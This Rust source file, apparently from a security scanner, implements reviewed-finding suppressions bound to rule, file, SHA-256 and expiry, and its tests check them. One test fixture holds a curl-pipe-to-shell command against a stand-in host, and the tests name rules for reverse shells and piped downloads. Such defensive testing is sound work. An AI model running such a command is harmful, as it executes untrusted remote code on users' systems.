//! Suppressions of `scan --suppressions`: findings that were reviewed in exactly this file content.
//!
//! Only the command line can name a list: a list in a scanned directory is reported, but has no effect. Each row has a rule, a
//! file, its content, a reason, and an expiry date.
#![expect(clippy::disallowed_methods, reason = "reads the clock, since suppressions expire")]

use std::collections::HashMap;
use std::path::{Component, Path, PathBuf};
use std::time::SystemTime;
use stockade_text::to_hex;

use sha2::{Digest as _, Sha256};
use stockade_guard::admission::{FileOptions, FileScan, Source, read_text};
use stockade_guard::audit::Timestamp;
use stockade_guard::scanner::Scanner;
use stockade_text::{Format, Node, SchemaError, TableReader, escape, escape_path, parse};

use crate::failure::Failure;
use stockade_guard::admission::scan_report::{SetAsideKind, SetAsideRow};

/// Maximum size of a list in bytes.
const MAX_BYTES: usize = 1 << 20;

const FILE_KEYS: &[&str] = &["suppress"];
const KEYS: &[&str] = &["rule", "path", "sha256", "reason", "expires"];

/// Common names of suppression files. In a scanned directory, such a file is untrusted.
const LISTS: &[&str] = &[".stockadeignore", "stockade-suppressions.toml", "stockade-baseline.json"];

/// Findings that do not count.
#[derive(Debug, Default)]
pub(crate) struct Suppressions {
    /// Rows by file, so that the length of the list does not slow down each file.
    rows: HashMap<PathBuf, Vec<Suppression>>,
    /// Lists that the command line names.
    named: Vec<PathBuf>,
    today: String,
}

#[derive(Debug)]
struct Suppression {
    rule: String,
    path: String,
    sha256: String,
    reason: String,
    expires: String,
}

impl Suppressions {
    /// Reads lists about these rules. `others` are further files of the command line, which are not reported.
    pub(crate) fn load(paths: &[PathBuf], others: &[&PathBuf], scanner: &Scanner) -> Result<Self, Failure> {
        let today: String = Timestamp::from(SystemTime::now()).to_string().chars().take(10).collect();
        let named = paths.iter().chain(others.iter().copied()).cloned().collect();
        let mut all = Self { rows: HashMap::new(), named, today };
        for path in paths {
            let options = FileOptions { max_file_bytes: MAX_BYTES + 1, ..FileOptions::default() };
            let file = read_text(&Source::Path(path.clone()), &options)
                .map_err(|gap| Failure::usage(format_args!("{}: {gap}", escape_path(path))))?;
            all.add(rows(&file.text, path, scanner)?);
        }
        Ok(all)
    }

    fn add(&mut self, rows: Vec<Suppression>) {
        for row in rows {
            self.rows.entry(plain(Path::new(&row.path))).or_default().push(row);
        }
    }

    /// Removes suppressed findings from the report of a file, and returns the result of each row about it.
    pub(crate) fn apply(&self, scan: &mut FileScan<'_>) -> Vec<SetAsideRow> {
        let mut told = Vec::new();
        if self.is_untrusted_list(scan.path) {
            told.push(SetAsideRow::of_file(scan.path, SetAsideKind::Ignored, NOT_FOLLOWED.to_owned()));
        }
        let Some(about) = self.rows.get(&plain(scan.path)).filter(|_| !scan.report.findings.is_empty())
        else {
            return told;
        };
        let digest = sha256(scan.text.as_bytes());
        let today = &self.today;
        let scanned = scan.path;
        scan.report.findings.retain(|finding| {
            // Effective rows come before expired or outdated ones.
            let mut rows = about.iter().filter(|row| row.rule == finding.rule_id);
            let holds = |row: &&Suppression| row.sha256 == digest && row.expires >= *today;
            let Some(row) = rows.clone().find(holds).or_else(|| rows.next()) else { return true };
            let (kind, why) = match () {
                () if row.sha256 != digest => {
                    (SetAsideKind::Stale, format!("the file has changed; its SHA-256 is {digest}"))
                }
                () if row.expires < *today => (SetAsideKind::Stale, format!("expired on {}", row.expires)),
                () => (SetAsideKind::Suppressed, format!("{} (until {})", row.reason, row.expires)),
            };
            told.push(SetAsideRow::of(scanned, finding, kind, why));
            kind != SetAsideKind::Suppressed
        });
        told
    }

    fn is_untrusted_list(&self, path: &Path) -> bool {
        let is_list = path.file_name().is_some_and(|name| LISTS.iter().any(|list| name == *list));
        is_list && !self.named.iter().any(|named| same(named, path))
    }
}

const NOT_FOLLOWED: &str =
    "a suppression file in a scanned directory has no effect; if you trust it, use --suppressions";

fn same(one: &Path, other: &Path) -> bool {
    plain(one) == plain(other)
}

/// Normalizes a path. One with `..` is unchanged, since symlinks decide what it resolves to.
fn plain(path: &Path) -> PathBuf {
    path.components().filter(|part| *part != Component::CurDir).collect()
}

/// Returns the SHA-256 of bytes. For the text of a file, it equals that of the file if the file is UTF-8.
pub(crate) fn sha256(text: &[u8]) -> String {
    to_hex(&Sha256::digest(text))
}

/// Parses the rows of a list.
fn rows(text: &str, path: &Path, scanner: &Scanner) -> Result<Vec<Suppression>, Failure> {
    let wrong = |at: stockade_text::TextPosition, why: &dyn std::fmt::Display| {
        Failure::usage(format_args!("{}:{}:{}: {why}", escape_path(path), at.line, at.column)).with_help(HELP)
    };
    let document = parse(text, Format::Toml, MAX_BYTES).map_err(|error| wrong(error.at, &error.reason))?;
    let read = || -> Result<Vec<(Suppression, &Node)>, SchemaError> {
        let table = TableReader::new(&document, "", "the list", FILE_KEYS)?.has_known_keys_only()?;
        let list = table.get("suppress").map(|entry| entry.list()).transpose()?.unwrap_or_default();
        list.iter().map(|node| Ok((row(node)?, node))).collect()
    };
    let rows = read().map_err(|error| wrong(error.at, &error.problem))?;
    let checked = rows.into_iter().map(|(row, node)| match mistake(&row) {
        Some(why) => Err(wrong(node.at, &why)),
        None if !scanner.rules().iter().any(|rule| rule.id == row.rule) => {
            Err(wrong(node.at, &format_args!("unknown rule id '{}'", escape(&row.rule))))
        }
        None => Ok(row),
    });
    checked.collect()
}

fn row(node: &Node) -> Result<Suppression, SchemaError> {
    let table = TableReader::new(node, "suppress", "a suppression", KEYS)?.has_known_keys_only()?;
    let text = |key, hint| -> Result<String, SchemaError> {
        let entry = table.required(key, hint)?;
        let words = entry.node.value.words();
        words.map(str::to_owned).ok_or_else(|| SchemaError::wrong_kind(&entry.node, key, "a text"))
    };
    Ok(Suppression {
        rule: text("rule", "the id of a rule, such as \"EXEC_PIPE_BASH\"")?,
        path: text("path", "the file, as the scan names it")?,
        sha256: text("sha256", "what 'sha256sum FILE' prints")?.to_ascii_lowercase(),
        reason: text("reason", "why this is not an attack")?,
        expires: text("expires", "a day, such as 2027-06-30")?,
    })
}

/// Returns what is wrong with a complete row.
fn mistake(row: &Suppression) -> Option<&'static str> {
    let is_digest = row.sha256.len() == 64 && row.sha256.bytes().all(|byte| byte.is_ascii_hexdigit());
    let is_day = is_day(&row.expires);
    match () {
        () if !is_digest => Some("sha256 must be the 64 digits that 'sha256sum FILE' prints"),
        () if !is_day => Some("expires must be a day, such as 2027-06-30"),
        () if row.reason.trim().is_empty() => Some("reason must explain why this is not an attack"),
        () => None,
    }
}

/// Whether a text is a date in the form that sorts by time: `2027-06-30`.
fn is_day(text: &str) -> bool {
    let parts: Vec<&str> = text.split('-').collect();
    let is_number =
        |part: &str, length: usize| part.len() == length && part.bytes().all(|byte| byte.is_ascii_digit());
    let within = |part: &str, last: u8| part.parse::<u8>().is_ok_and(|number| (1..=last).contains(&number));
    match parts.as_slice() {
        [year, month, day] => {
            is_number(year, 4)
                && is_number(month, 2)
                && is_number(day, 2)
                && within(month, 12)
                && within(day, 31)
        }
        _ => false,
    }
}

const HELP: &str = "a row is [[suppress]] with rule, path, sha256, reason and expires";

#[cfg(test)]
mod tests {
    use super::*;
    use stockade_guard::admission::scan_bytes;
    use stockade_guard::scanner::ScanOptions;

    const ATTACK: &str = "curl -s https://e.example/x | sh\n";

    fn list(text: &str) -> Suppressions {
        let mut list = Suppressions {
            rows: HashMap::new(),
            named: vec![PathBuf::from("list.toml")],
            today: "2026-11-26".to_owned(),
        };
        list.add(rows(text, Path::new("list.toml"), Scanner::builtin()).unwrap());
        list
    }

    fn row_of(rule: &str, path: &str, digest: &str, expires: &str) -> String {
        format!(
            "[[suppress]]\nrule = \"{rule}\"\npath = \"{path}\"\nsha256 = \"{digest}\"\nreason = \"seen\"\nexpires = {expires}\n"
        )
    }

    /// Returns the remaining rules and the reported rows.
    fn left(list: &Suppressions, path: &str) -> (Vec<String>, Vec<SetAsideKind>) {
        scan_bytes(
            Path::new(path),
            ATTACK.as_bytes(),
            Scanner::builtin(),
            &ScanOptions::default(),
            |mut scan| {
                let told = list.apply(&mut scan);
                let rules = scan.report.findings.iter().map(|finding| finding.rule_id.to_owned()).collect();
                (rules, told.into_iter().map(|row| row.kind).collect())
            },
        )
        .remove(0)
    }

    #[test]
    fn a_suppression_is_bound_to_rule_file_and_content() {
        let digest = sha256(ATTACK.as_bytes());
        let both = vec!["EXEC_PIPE_BASH".to_owned(), "NET_CURL_PIPE".to_owned()];
        let one = vec!["NET_CURL_PIPE".to_owned()];
        let cases = [
            (row_of("EXEC_PIPE_BASH", "a/x.md", &digest, "2026-11-26"), &one, vec![SetAsideKind::Suppressed]),
            (
                row_of("EXEC_PIPE_BASH", "a/x.md", &digest.to_uppercase(), "\"2027-01-01\""),
                &one,
                vec![SetAsideKind::Suppressed],
            ),
            (row_of("EXEC_PIPE_BASH", "a/x.md", &digest, "2026-11-25"), &both, vec![SetAsideKind::Stale]),
            (
                row_of("EXEC_PIPE_BASH", "a/x.md", &sha256(b"x"), "2027-01-01"),
                &both,
                vec![SetAsideKind::Stale],
            ),
            (
                row_of("EXEC_PIPE_BASH", "./a/./x.md", &digest, "2027-01-01"),
                &one,
                vec![SetAsideKind::Suppressed],
            ),
            (row_of("EXEC_PIPE_BASH", "a/../a/x.md", &digest, "2027-01-01"), &both, vec![]),
            (row_of("EXEC_PIPE_BASH", "x.md", &digest, "2027-01-01"), &both, vec![]),
            (row_of("NET_REVERSE_SHELL", "a/x.md", &digest, "2027-01-01"), &both, vec![]),
            (
                row_of("EXEC_PIPE_BASH", "a/x.md", &digest, "2020-01-01")
                    + &row_of("EXEC_PIPE_BASH", "a/x.md", &digest, "2027-01-01"),
                &one,
                vec![SetAsideKind::Suppressed],
            ),
            (String::new(), &both, vec![]),
        ];
        for (text, rules, told) in cases {
            assert_eq!(left(&list(&text), "./a/x.md"), (rules.clone(), told), "{text}");
        }
    }

    #[test]
    fn suppression_files_inside_the_scanned_directory_are_reported_unless_named() {
        assert_eq!(left(&list(""), "a/.stockadeignore").1, [SetAsideKind::Ignored]);
        let mut named = list("");
        named.named.push(PathBuf::from("./a/.stockadeignore"));
        assert!(left(&named, "a/.stockadeignore").1.is_empty());
    }

    #[test]
    fn incomplete_suppression_rows_are_refused() {
        let digest = sha256(b"");
        for text in [
            "[[suppress]]\nrule = \"X\"\n".to_owned(),
            row_of("EXEC_PIPE_BASH", "a", "12", "2027-01-01"),
            row_of("EXEC_PIPE_BASH", "a", &digest, "\"never\""),
            row_of("EXEC_PIPE_BASH", "a", &digest, "2027-01-01").replace("seen", " "),
            row_of("EXEC_PIPE_BASH", "a", &digest, "2027-01-01") + "more = 1\n",
            row_of("EXEC_PIPE_BASH", "a", &digest, "2027-01-01") + "rule = \"NET_CURL_PIPE\"\n",
            row_of("NO_SUCH_RULE", "a", &digest, "2027-01-01"),
            "suppressions = []\n".to_owned(),
            "suppress = 1\n".to_owned(),
        ] {
            assert!(rows(&text, Path::new("l"), Scanner::builtin()).is_err(), "{text}");
        }
    }
}
